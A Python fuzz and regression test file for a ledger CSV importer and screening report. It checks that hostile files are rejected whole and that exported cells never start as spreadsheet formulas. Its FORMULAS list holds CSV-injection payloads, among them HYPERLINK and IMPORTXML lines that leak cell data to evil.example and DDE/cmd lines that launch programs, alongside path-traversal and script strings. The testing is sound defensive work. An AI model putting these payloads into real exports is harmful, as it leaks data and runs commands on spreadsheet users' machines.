"""Hostile ledger CSV files: formula injection, huge fields, control characters, wrong encodings, BOMs,
ragged rows, extra, missing, reordered and repeated columns, duplicate accounts and numbers.

bot/domain/ledger.py's contract (``Ledger.import_files``): a file with any bad row is rejected as a whole with
row errors (LedgerImportError), and nothing stored changes; otherwise every row is stored as written
(cells stripped). So each generated pair of files must be either

- rejected, by LedgerImportError and nothing else, with errors that name the file and a line, the
  Redis database exactly as before (SCAN + DUMP snapshot) - and rejected whenever the file is not
  UTF-8, holds a NUL, lacks a column, has a row with the wrong number of fields or an account twice; or
- accepted, every account stored with exactly its (stripped) cells, and nothing written but those
  accounts, their pseudonym index entries and the set of account ids.

bot/screening/priority.py reads the same files for the screening run; it must likewise refuse with
ScreeningInputError or read them. What the system writes as CSV is screening's collection_list.csv:
no cell of it may start like a spreadsheet formula (=, +, -, @, tab, carriage return) unless it is a
number (since b2d8e08 such text gets a leading apostrophe). Stored names are not CSV (they are sealed
in Redis and HTML-escaped in the console).
"""

from __future__ import annotations

import codecs
import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import event, given
from hypothesis import strategies as st

from bot.campaigns import campaign
from bot.core import keys
from bot.core.crypto import pseudonym
from bot.domain.ledger import ACCOUNT_COLUMNS, INSTALLMENT_COLUMNS, LedgerImportError
from bot.screening import priority as screening
from bot.services import Services
from tests.fuzz.helpers import changed_keys, restore, snapshot, snapshot_with_ttl
from tests.fuzz.helpers import fuzz as fuzz_settings

TODAY = date(2026, 11, 29)
FREE_TEXT = ("name", "address", "employer", "region")
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
            "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "\r=1+1")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
hostile = st.one_of(text, st.sampled_from(FORMULAS), st.sampled_from([
    "", " ", "  padded  ", '"quoted, with comma"', "line\nbreak", "cr\rreturn", "\u202eevil\u202c", "𝓤𝓷𝓲𝓬𝓸𝓭𝓮",
    "<script>alert(1)</script>", "x" * 500, "x" * 501, "y" * 5000, "\ufeffbom inside", "\x1c\x1d\x1e", "'quoted'",
    "上海市浦东新区", "\u3000全角空格\u3000", "nul\x00inside", "z" * 131073]))  # the last: over csv's field limit


def valid_row(n: int) -> dict[str, str]:
    return {"account_id": f"F{n:04d}", "name": f"Fuzz {n}", "phone": f"+86135{n:08d}", "language": "zh",
            "timezone": "Asia/Shanghai", "product": "consumer", "currency": "CNY", "id_last4": "123X",
            "birth_date": "1980-01-01", "address": "", "employer": "", "region": "SH"}


BROKEN = {"account_id": ["", "a b", "x" * 65, "../etc", "F0001;"], "phone": ["", "13800138000", "+0123456", "+86 135"],
          "language": ["", "fr", "ZH"], "timezone": ["", "Mars/Olympus", "../../etc/passwd", "UTC+8"],
          "product": ["", "loan"], "currency": ["", "XXY", "rmb"], "id_last4": ["", "12", "12345", "abcd"],
          "birth_date": ["", "1899-12-31", "2027-01-01", "1980-02-30", "01/01/1980"]}


@st.composite
def account_files(draw: st.DrawFn) -> tuple[bytes, dict[str, object]]:
    """accounts.csv as bytes, and what was done to it (for the expectations)."""
    count = draw(st.integers(0, 5))
    rows = [valid_row(n) for n in range(count)]
    for row in rows:
        for column in FREE_TEXT:
            if draw(st.booleans()):
                row[column] = draw(hostile)
        if draw(st.integers(0, 5)) == 5:  # a broken structured field
            column = draw(st.sampled_from(sorted(BROKEN)))
            row[column] = draw(st.sampled_from(BROKEN[column]))
    duplicate = bool(rows) and draw(st.integers(0, 6)) == 6
    if duplicate:
        copy = dict(draw(st.sampled_from(rows)))
        copy["phone"] = "+86139" + copy["phone"][-8:]
        rows.append(copy)
    header = list(ACCOUNT_COLUMNS)
    shape = draw(st.sampled_from(["plain", "plain", "shuffled", "missing", "extra", "spaced", "upper"]))
    if shape == "shuffled":
        header = draw(st.permutations(header))
    elif shape == "missing":
        header.remove(draw(st.sampled_from([c for c in header if c not in ("address", "employer", "region")])))
    elif shape == "extra":
        header.insert(draw(st.integers(0, len(header))), draw(st.sampled_from(["notes", "=cmd", "", "name2"])))
    cells = [[row.get(column, draw(hostile)) for column in header] for row in rows]
    names = [f"  {h} " if shape == "spaced" else h.upper() if shape == "upper" else h for h in header]
    ragged = bool(cells) and draw(st.integers(0, 6)) == 6
    if ragged:
        victim = draw(st.sampled_from(cells))
        if draw(st.booleans()) and victim:
            victim.pop()
        else:
            victim.append(draw(hostile))
    buffer = io.StringIO()
    quote_all = draw(st.booleans())
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    buffer.write(csv_line(names, quote_all, newline))
    for row_cells in cells:
        if draw(st.integers(0, 9)) == 9:
            buffer.write(newline)  # a blank line, which both readers skip
        buffer.write(csv_line(row_cells, quote_all, newline))
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-8-sig", "double-bom", "utf-16", "gbk",
                                     "latin-1", "cp1252", "utf-16-le"]))
    textual = buffer.getvalue()
    if encoding == "double-bom":
        data = codecs.BOM_UTF8 * 2 + textual.encode()
    else:
        data = textual.encode(encoding, errors="replace")
    return data, {"rows": rows, "header": header, "shape": shape, "ragged": ragged, "duplicate": duplicate,
                  "encoding": encoding, "newline": newline}


def csv_line(cells: list[str], quote_all: bool, newline: str) -> str:
    """One CSV record as a spreadsheet writes it (RFC 4180 quoting; NULs and all left in, unlike csv.writer)."""
    quoted = ['"' + c.replace('"', '""') + '"' if quote_all or any(ch in c for ch in ',"\r\n') else c
              for c in cells]
    return ",".join(quoted) + newline


def installments_for(account_ids: list[str], amounts: list[str]) -> str:
    lines = [",".join(INSTALLMENT_COLUMNS)]
    pairs = zip(account_ids, amounts, strict=False)  # as many rows as the shorter list
    lines += [f"{a},{n},2026-10-15,{amount},0.00," for n, (a, amount) in enumerate(pairs, 1)]
    return "\n".join(lines) + "\n"


def utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8-sig")
    except UnicodeDecodeError:
        return False
    return True


@fuzz_settings(scale=3)
@given(accounts=account_files(), amounts=st.lists(st.sampled_from(["100.00", "1e3", "-5", "=1+1", "1,000", "0.001",
                                                                  "99999999999999", " 12.5 "]), max_size=3))
async def test_hostile_ledger_files_are_rejected_whole_or_stored_exactly(
        services: Services, tmp_path_factory: pytest.TempPathFactory,
        accounts: tuple[bytes, dict[str, object]], amounts: list[str]) -> None:
    data, made = accounts
    rows: list[dict[str, str]] = made["rows"]  # type: ignore[assignment]
    folder = tmp_path_factory.mktemp("ledger")
    accounts_csv, installments_csv = folder / "accounts.csv", folder / "installments.csv"
    accounts_csv.write_bytes(data)
    installments_csv.write_text(installments_for([r["account_id"] for r in rows] or ["CN001"], amounts),
                                encoding="utf-8")
    redis = services.redis
    saved = await snapshot_with_ttl(redis)
    before = await snapshot(redis)
    try:
        try:
            imported = await services.ledger.import_files(accounts_csv, installments_csv, TODAY)
        except LedgerImportError as rejected:
            event("rejected")
            assert rejected.errors
            assert all(e.file in ("accounts.csv", "installments.csv") and e.line >= 1 for e in rejected.errors)
            assert await snapshot(redis) == before, "a rejected import changed what is stored"
            if not utf8(data):
                assert [(e.file, e.column) for e in rejected.errors if e.file == "accounts.csv"] == [
                    ("accounts.csv", "-")]
            return
        event("accepted")
        # Accepted: then it was UTF-8 without NUL (UTF-16 without a BOM is ASCII and NULs), complete, rectangular,
        # one row per account; and stored exactly.
        assert utf8(data) and b"\x00" not in data, made["encoding"]
        assert made["shape"] not in ("missing", "upper") and not made["ragged"] and not made["duplicate"]
        # The rows as the file holds them (a lossy encoding may have replaced characters of the generated ones).
        rows = [{k.strip(): v for k, v in r.items()} for r in csv.DictReader(
            io.StringIO(data.decode("utf-8-sig"), newline="")) if any(v.strip() for v in r.values() if v)]
        assert imported[0] == len(rows)
        expected_keys = {keys.ACCOUNT_IDS.encode()}
        for row in rows:
            stored = await services.ledger.get(row["account_id"].strip())
            assert stored is not None
            for column in FREE_TEXT:  # formula-like text is data here: sealed in Redis, escaped in HTML
                assert getattr(stored, column) == row[column].strip(), column
            conversation = pseudonym(stored.phone, services.settings.hmac_secret)
            expected_keys |= {keys.account(stored.account_id).encode(),
                              keys.account_by_pseudonym(conversation).encode()}
        assert changed_keys(before, await snapshot(redis)) <= expected_keys | {keys.account("CN001").encode()}
    finally:
        await restore(redis, saved)


def _header_collides(path: Path) -> bool:
    """Column names polars reads that are equal once stripped."""
    import polars as pl

    try:
        columns = pl.read_csv(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\r", b"\n"),
                              infer_schema=False, n_rows=0, encoding="utf8").columns
    except pl.exceptions.PolarsError:
        return False
    return len({c.strip() for c in columns}) < len(columns)


@fuzz_settings(scale=2)
@given(accounts=account_files())
def test_screening_refuses_or_reads_hostile_files(tmp_path_factory: pytest.TempPathFactory,
                                                  accounts: tuple[bytes, dict[str, object]]) -> None:
    data, made = accounts
    rows: list[dict[str, str]] = made["rows"]  # type: ignore[assignment]
    folder = tmp_path_factory.mktemp("screen")
    (folder / "accounts.csv").write_bytes(data)
    collides = _header_collides(folder / "accounts.csv")
    (folder / "installments.csv").write_text(installments_for([r["account_id"] for r in rows[:1]], ["100.00"]),
                                             encoding="utf-8")
    try:
        read, _ = screening.read_ledger(folder / "accounts.csv", folder / "installments.csv", TODAY)
    except screening.ScreeningInputError as refused:
        event("refused")
        assert refused.errors and refused.total >= len(refused.errors)
        return
    event("read")
    assert utf8(data) and not made["duplicate"] and not collides
    assert read.height == len(rows)


@pytest.mark.parametrize("column", ["name", "address", "employer", "region"])
def test_formula_text_never_starts_a_cell_of_the_collection_list(tmp_path: Path, column: str) -> None:
    """One account per payload, the payload in ``column``: screened, and every written cell checked."""
    accounts, installments = tmp_path / "accounts.csv", tmp_path / "installments.csv"
    rows = []
    for n, payload in enumerate(FORMULAS):
        row = valid_row(n)
        row[column] = payload
        rows.append(row)
    with accounts.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, ACCOUNT_COLUMNS, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    installments.write_text(installments_for([r["account_id"] for r in rows], ["100.00"] * len(rows)),
                            encoding="utf-8")
    outputs = screening.run(accounts, installments, tmp_path / "run", as_of=TODAY, quiet=True)
    with outputs.collection_list.open(encoding="utf-8", newline="") as handle:
        listed = list(csv.reader(handle))
    assert len(listed) == len(rows) + 1  # every account was screened, none refused for its text
    # No cell the list writes may be read as a formula by a spreadsheet.
    dangerous = [c for line in listed for c in line if c.startswith(FORMULA_START) and not _number(c)]
    assert dangerous == [], f"formula-like cells in collection_list.csv: {dangerous}"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_an_account_id_never_starts_a_formula_in_the_collection_list(tmp_path: Path) -> None:
    """Was: account ids were left alone, and "-1-1" showed as -2 in a spreadsheet."""
    row = valid_row(1)
    row["account_id"] = "-1-1"
    accounts, installments = tmp_path / "accounts.csv", tmp_path / "installments.csv"
    accounts.write_text(",".join(ACCOUNT_COLUMNS) + "\n" + ",".join(row[c] for c in ACCOUNT_COLUMNS) + "\n",
                        encoding="utf-8")
    installments.write_text(installments_for([row["account_id"]], ["100.00"]), encoding="utf-8")
    outputs = screening.run(accounts, installments, tmp_path / "run", as_of=TODAY, quiet=True)
    with outputs.collection_list.open(encoding="utf-8", newline="") as handle:
        listed = list(csv.reader(handle))
    assert [c for line in listed for c in line if c.startswith(FORMULA_START) and not _number(c)] == []
    assert [t.account_id for t in campaign.read_list(outputs.collection_list)] == ["-1-1"]  # the campaign's id


@pytest.mark.parametrize("phone", ["+86138\uff10\uff10138000", "+861\u0663800138000"],
                         ids=["fullwidth", "arabic-indic"])
async def test_a_phone_number_in_other_digits_is_refused(services: Services, tmp_path: Path, phone: str) -> None:
    """Was: \\d took any script's digits; the account imported, but no borrower's SMS could ever match it."""
    row = valid_row(1)
    row["phone"] = phone
    accounts, installments = tmp_path / "accounts.csv", tmp_path / "installments.csv"
    accounts.write_text(",".join(ACCOUNT_COLUMNS) + "\n" + ",".join(row[c] for c in ACCOUNT_COLUMNS) + "\n",
                        encoding="utf-8")
    installments.write_text(",".join(INSTALLMENT_COLUMNS) + "\n", encoding="utf-8")
    saved = await snapshot_with_ttl(services.redis)
    try:
        with pytest.raises(LedgerImportError):
            await services.ledger.import_files(accounts, installments, TODAY)
    finally:
        await restore(services.redis, saved)


def _ledger_files(folder: Path, accounts: list[str], installments: list[str], newline: str = "\n") -> tuple[Path, Path]:
    (folder / "accounts.csv").write_text(newline.join(accounts) + newline, encoding="utf-8")
    (folder / "installments.csv").write_text(newline.join(installments) + newline, encoding="utf-8")
    return folder / "accounts.csv", folder / "installments.csv"


def test_an_empty_ledger_screens_to_an_empty_list(tmp_path: Path) -> None:
    """Was: a TypeError out of the report (no accounts, so no as-of day)."""
    accounts, installments = _ledger_files(tmp_path, [",".join(ACCOUNT_COLUMNS)], [",".join(INSTALLMENT_COLUMNS)])
    outputs = screening.run(accounts, installments, tmp_path / "run", as_of=TODAY, quiet=True)
    assert outputs.collection_list.read_text(encoding="utf-8").splitlines()[1:] == []


def test_a_file_with_cr_line_endings_is_not_read_as_its_header_alone(tmp_path: Path) -> None:
    """Was: polars read a CR-only file as one header line, so the ledger had no accounts and no error."""
    row = valid_row(1)
    accounts, installments = _ledger_files(
        tmp_path, [",".join(ACCOUNT_COLUMNS) + ",notes", ",".join(row[c] for c in ACCOUNT_COLUMNS) + ",x"],
        [",".join(INSTALLMENT_COLUMNS) + ",notes", f"{row['account_id']},1,2026-10-15,100.00,0.00,,x"], "\r")
    read, _ = screening.read_ledger(accounts, installments, TODAY)
    assert read.get_column("account_id").to_list() == [row["account_id"]]


# --- regressions: what the fuzzing found (until b2d8e08), pinned --------------------------------------


@pytest.mark.parametrize("bad", ["\x00", "x" * 131073, "utf-16-le"], ids=["nul", "over-field-limit", "utf-16-no-bom"])
async def test_rows_the_csv_module_cannot_read_are_row_errors(services: Services, tmp_path: Path, bad: str) -> None:
    """Was: csv.Error escaped import_files (a traceback from python -m bot import-ledger, no line named)."""
    row = valid_row(1)
    row["name"] = "Fuzz" + ("" if bad == "utf-16-le" else bad)
    accounts = tmp_path / "accounts.csv"
    # UTF-16 without a byte order mark (a spreadsheet's "Unicode text"): ASCII in it is valid UTF-8 full of NULs.
    accounts.write_text(",".join(ACCOUNT_COLUMNS) + "\n" + ",".join(row[c] for c in ACCOUNT_COLUMNS) + "\n",
                        encoding="utf-16-le" if bad == "utf-16-le" else "utf-8")
    installments = tmp_path / "installments.csv"
    installments.write_text(",".join(INSTALLMENT_COLUMNS) + "\n", encoding="utf-8")
    before = await snapshot(services.redis)
    with pytest.raises(LedgerImportError) as rejected:
        await services.ledger.import_files(accounts, installments, TODAY)
    assert [(e.file, e.column) for e in rejected.value.errors] == [("accounts.csv", "-")]
    assert await snapshot(services.redis) == before


@pytest.mark.parametrize("newline", ["\n", "\r"], ids=["lf", "cr"])
def test_header_names_equal_once_stripped_are_a_screening_input_error(tmp_path: Path, newline: str) -> None:
    """Was: polars DuplicateError out of read_ledger (python -m bot screen crashed)."""
    row = valid_row(1)
    accounts = tmp_path / "accounts.csv"
    lines = [",".join(ACCOUNT_COLUMNS) + ", name", ",".join(row[c] for c in ACCOUNT_COLUMNS) + ",x"]
    accounts.write_text(newline.join(lines) + newline, encoding="utf-8")
    installments = tmp_path / "installments.csv"
    installments.write_text(",".join(INSTALLMENT_COLUMNS) + "\n", encoding="utf-8")
    with pytest.raises(screening.ScreeningInputError) as refused:
        screening.read_ledger(accounts, installments, TODAY)
    assert refused.value.errors[0].line == 1
